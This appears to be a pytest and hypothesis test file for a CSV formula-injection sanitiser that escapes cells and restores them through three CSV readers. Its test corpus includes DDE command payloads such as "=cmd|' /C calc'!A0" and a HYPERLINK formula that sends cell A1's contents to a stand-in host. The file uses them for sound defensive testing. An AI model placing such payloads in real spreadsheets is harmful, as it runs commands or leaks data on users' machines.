"""Cells that no spreadsheet takes for a formula, each had back as it was."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pyarrow.csv as pacsv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from privet.audit.cells import plain, safe

STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
CORPUS = [
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    *(f"{lead}=1+1" for lead in ("\t", "\r", "\n", "\0", " ", "   ", "\u00a0", "\u3000", "\ufeff")),
    '=HYPERLINK("http://x.example?x="&A1,"e")',
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    'a";"=1+1',
    "a\n=1+1",
    "a\r\n@SUM(1)",
    "'=1+1",
    "''",
    "'",
    "\\u003d1",
    "'\\u003d1",
    "\\",
    "trailing ",
    "\u202e=1+1",
    "\u2028=1+1",
    '{"a":"=1","b":-1}',
    "",
    "usual",
    "2026-03-02T09:30:00.000000Z",
    "purchase.item view.item",
]
TEXTS = st.text(st.sampled_from([*STARTS, *"\t\r\n\0 ,;|'\"\\`u003dab\u3000\u202e\ufeff"]))


def written(texts: list[str]) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(
        [["cell", "next"], *([safe(t), "x"] for t in texts)]
    )
    return text.getvalue().encode()


@given(st.one_of(TEXTS, st.text()))
def test_a_cell_is_had_back(text: str) -> None:
    assert plain(safe(text)) == text


@given(TEXTS)
def test_no_cell_begins_a_formula_nor_does_a_piece_of_it(text: str) -> None:
    cell = safe(text)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", cell)
    for piece in re.split(r"[,;|\"'`]", cell):
        assert piece.strip()[:1] not in STARTS or not piece.strip()


@pytest.mark.parametrize("text", ["usual", "2026-03-02T09:30:00Z", "purchase.item", "a-b", "p-01"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def by_csv(data: bytes) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(data.decode(), newline=""))][1:]


def by_pandas(data: bytes) -> list[str]:
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    return list(frame["cell"])


def by_arrow(data: bytes) -> list[str]:
    kinds = pacsv.ConvertOptions(
        column_types={"cell": "string"}, strings_can_be_null=False, quoted_strings_can_be_null=False
    )
    table = pacsv.read_csv(io.BytesIO(data), convert_options=kinds)
    return [str(value) for value in table["cell"].to_pylist()]


@pytest.mark.parametrize("read", [by_csv, by_pandas, by_arrow])
def test_three_readers_have_the_corpus_back(read: object) -> None:
    cells = read(written(CORPUS))  # type: ignore[operator]
    assert [plain(cell) for cell in cells] == CORPUS


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_read_with_any_separator_no_cell_is_a_formula(separator: str) -> None:
    rows = csv.reader(io.StringIO(written(CORPUS).decode(), newline=""), delimiter=separator)
    for cell in (cell for row in rows for cell in row):
        assert cell.strip()[:1] not in STARTS or not cell.strip()
